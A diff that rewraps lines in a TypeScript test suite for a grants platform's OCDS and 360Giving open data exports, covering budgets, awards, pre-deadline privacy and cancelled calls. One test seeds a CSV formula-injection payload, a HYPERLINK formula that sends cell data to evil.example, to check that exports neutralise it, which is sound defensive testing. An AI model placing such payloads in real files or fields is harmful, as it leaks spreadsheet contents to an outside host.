@@ -25,7 +25,9 @@ describe("open data exports", () => {
     expect(release.planning.budget.amount).toEqual({ amount: 200000, currency: "KGS" });
     expect(release.tender.numberOfTenderers).toBe(2);
     expect(release.tender.status).toBe("complete");
-    expect(release.awards).toEqual([expect.objectContaining({ id: award.reference, status: "active", value: { amount: 150000.5, currency: "KGS" } })]);
+    expect(release.awards).toEqual([
+      expect.objectContaining({ id: award.reference, status: "active", value: { amount: 150000.5, currency: "KGS" } }),
+    ]);
     const contract = release.contracts[0]!;
     expect(contract.id).toBe(agreement.number);
     expect(contract.milestones.map((m) => m.status)).toEqual(["met", "scheduled"]);
@@ -51,7 +53,10 @@ describe("open data exports", () => {
   it("names no applicant of a call before its deadline", async () => {
     const { call, loser } = await createFundedProcess();
     const { prisma } = await import("~/utils/db.server");
-    await prisma.call.update({ where: { id: call.id }, data: { status: "PUBLISHED", submissionDeadline: new Date("2026-08-01T12:00:00Z") } });
+    await prisma.call.update({
+      where: { id: call.id },
+      data: { status: "PUBLISHED", submissionDeadline: new Date("2026-08-01T12:00:00Z") },
+    });
     const pkg = await buildOcdsReleasePackage(options);
     const release = pkg.releases.find((r) => r.tender.id === call.reference)!;
     expect(release.tender.tenderers).toBeUndefined();
@@ -73,7 +78,10 @@ describe("open data exports", () => {
     const { call, award } = await createFundedProcess();
     const { prisma } = await import("~/utils/db.server");
     // As if the draft had been cancelled: never published, so no publication instant.
-    await prisma.call.update({ where: { id: call.id }, data: { status: "CANCELLED", publishedAt: null, cancelledReason: "Отменён до публикации." } });
+    await prisma.call.update({
+      where: { id: call.id },
+      data: { status: "CANCELLED", publishedAt: null, cancelledReason: "Отменён до публикации." },
+    });
     const pkg = await buildOcdsReleasePackage(options);
     expect(pkg.releases.some((r) => r.tender.id === call.reference)).toBe(false);
     expect((await buildThreeSixtyGivingPackage(options)).grants.some((g) => g.id.endsWith(award.reference))).toBe(false);
@@ -90,7 +98,10 @@ describe("open data exports", () => {
   it("writes no live formula into the 360Giving CSV, whatever an organization typed", async () => {
     const { award, winner } = await createFundedProcess();
     const { prisma } = await import("~/utils/db.server");
-    await prisma.proposal.update({ where: { id: award.proposalId }, data: { title: '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")', summary: "+1+1" } });
+    await prisma.proposal.update({
+      where: { id: award.proposalId },
+      data: { title: '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")', summary: "+1+1" },
+    });
     await prisma.organization.update({ where: { id: winner.id }, data: { nameRu: "@SUM(1,2)" } });
     const { loader } = await import("~/routes/open-data.360giving[.]csv");
     const response = await loader(get("/open-data/360giving.csv"));
@@ -112,7 +123,10 @@ describe("open data exports", () => {
     const karakol = await createFundedProcess();
     const osh = await createFundedProcess();
     const { prisma } = await import("~/utils/db.server");
-    await prisma.municipality.update({ where: { id: osh.municipality.id }, data: { ocidPrefix: "ocds-kgosh1", nameRu: "Мэрия города Ош" } });
+    await prisma.municipality.update({
+      where: { id: osh.municipality.id },
+      data: { ocidPrefix: "ocds-kgosh1", nameRu: "Мэрия города Ош" },
+    });
     forgetPublisher();
     const { loader: ocds } = await import("~/routes/open-data.ocds[.]json");
     const { loader: giving } = await import("~/routes/open-data.360giving[.]json");
